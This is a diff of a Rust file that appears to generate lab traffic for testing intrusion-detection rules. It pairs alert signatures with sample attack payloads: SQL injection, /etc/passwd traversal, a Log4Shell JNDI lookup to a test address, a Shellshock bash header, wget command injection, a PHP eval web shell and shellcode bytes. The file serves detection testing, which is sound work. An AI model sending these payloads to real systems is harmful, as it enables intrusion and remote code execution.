@@ -21,31 +21,31 @@ pub(crate) struct Attack {
 pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "sql-injection",
-        sid: 9_100_001,
+        sid: 9_099_001,
         rule: r#"alert http any any -> any any (msg:"LAB SQL injection in a query"; flow:established,to_server; http.uri; content:"union select"; nocase; "#,
         build: |s| http(s, "GET", "/items?id=1%27%20UNION%20SELECT%20user,password%20FROM%20accounts--", "", ""),
     },
     Attack {
         name: "path-traversal",
-        sid: 9_100_002,
+        sid: 9_099_002,
         rule: r#"alert http any any -> any any (msg:"LAB path traversal"; flow:established,to_server; http.uri.raw; content:"../../../../etc/passwd"; "#,
         build: |s| http(s, "GET", "/download?file=../../../../etc/passwd", "", ""),
     },
     Attack {
         name: "log4shell",
-        sid: 9_100_003,
+        sid: 9_099_003,
         rule: r#"alert http any any -> any any (msg:"LAB lookup in a header"; flow:established,to_server; http.header; content:"${jndi:ldap://"; "#,
         build: |s| http(s, "GET", "/", "X-Api-Version: ${jndi:ldap://192.0.2.66:1389/a}\r\n", ""),
     },
     Attack {
         name: "shellshock",
-        sid: 9_100_004,
+        sid: 9_099_004,
         rule: r#"alert http any any -> any any (msg:"LAB function definition in a header"; flow:established,to_server; http.header; content:"() {"; "#,
         build: |s| http(s, "GET", "/cgi-bin/status", "Referer: () { :;}; /bin/bash -c id\r\n", ""),
     },
     Attack {
         name: "command-injection",
-        sid: 9_100_005,
+        sid: 9_099_005,
         rule: r#"alert http any any -> any any (msg:"LAB command in a form"; flow:established,to_server; http.method; content:"POST"; http.request_body; content:"%3Bwget+http"; "#,
         build: |s| {
             http(
@@ -59,7 +59,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "web-shell",
-        sid: 9_100_006,
+        sid: 9_099_006,
         rule: r#"alert http any any -> any any (msg:"LAB web shell upload"; flow:established,to_server; http.request_body; content:"<?php @eval($_POST"; "#,
         build: |s| {
             http(s, "POST", "/upload.php", "Content-Type: application/octet-stream\r\n", "<?php @eval($_POST['x']); ?>")
@@ -67,19 +67,19 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "c2-beacon",
-        sid: 9_100_007,
+        sid: 9_099_007,
         rule: r#"alert http any any -> any any (msg:"LAB beacon"; flow:established,to_server; http.user_agent; content:"Beacon/0.9 lab"; bsize:14; "#,
         build: beacon,
     },
     Attack {
         name: "malware-domain-dns",
-        sid: 9_100_008,
+        sid: 9_099_008,
         rule: r#"alert dns any any -> any any (msg:"LAB query for a known bad name"; dns.query; content:"evil-update.example"; nocase; endswith; "#,
         build: |s| query(s, "cdn.evil-update.example", 1),
     },
     Attack {
         name: "dns-tunnel",
-        sid: 9_100_009,
+        sid: 9_099_009,
         rule: r#"alert dns any any -> any any (msg:"LAB tunnel in DNS"; dns.query; content:".t.tunnel.example"; endswith; bsize:>100; "#,
         build: |s| {
             let name: Vec<String> = (0..3).map(|_| s.rng.word(50)).collect();
@@ -88,7 +88,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "malware-domain-tls",
-        sid: 9_100_010,
+        sid: 9_099_010,
         rule: r#"alert tls any any -> any any (msg:"LAB TLS to a known bad name"; flow:established,to_server; tls.sni; content:"evil-update.example"; endswith; "#,
         build: |s| {
             let mut t = s.open(0, 443);
@@ -101,7 +101,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "ssh-scanner",
-        sid: 9_100_011,
+        sid: 9_099_011,
         rule: r#"alert tcp any any -> any 22 (msg:"LAB SSH scanner"; flow:established,to_server; content:"SSH-2.0-libssh_0.1"; depth:18; "#,
         build: |s| {
             let mut t = s.open(0, 22);
@@ -112,7 +112,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "ftp-site-exec",
-        sid: 9_100_012,
+        sid: 9_099_012,
         rule: r#"alert tcp any any -> any 21 (msg:"LAB FTP SITE EXEC"; flow:established,to_server; content:"SITE EXEC "; "#,
         build: |s| {
             let mut t = s.open(0, 21);
@@ -128,7 +128,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "mail-with-program",
-        sid: 9_100_013,
+        sid: 9_099_013,
         rule: r#"alert tcp any any -> any 25 (msg:"LAB program as attachment"; flow:established,to_server; content:"filename=|22|invoice.pdf.exe|22|"; "#,
         build: |s| {
             let mut t = s.open(0, 25);
@@ -157,7 +157,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "sip-scanner",
-        sid: 9_100_014,
+        sid: 9_099_014,
         rule: r#"alert udp any any -> any 5060 (msg:"LAB SIP scanner"; content:"User-Agent: friendly-scanner"; "#,
         build: |s| {
             let m = "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.66:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\n\
@@ -168,13 +168,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "port-scan",
-        sid: 9_100_015,
+        sid: 9_099_015,
         rule: r#"alert tcp any any -> any [23,135,139,445,1433,3389,5900,6379] (msg:"LAB scan of service ports"; flags:S,CE; flow:to_server; threshold:type both, track by_src, count 5, seconds 10; "#,
         build: scan,
     },
     Attack {
         name: "shellcode",
-        sid: 9_100_016,
+        sid: 9_099_016,
         rule: r#"alert tcp any any -> any any (msg:"LAB shellcode"; flow:established,to_server; content:"|90 90 90 90 90 90 90 90 90 90 90 90 90 90 90 90 eb 1f 5e 89 76 08 31 c0|"; "#,
         build: |s| {
             let mut t = s.open(0, 4444);
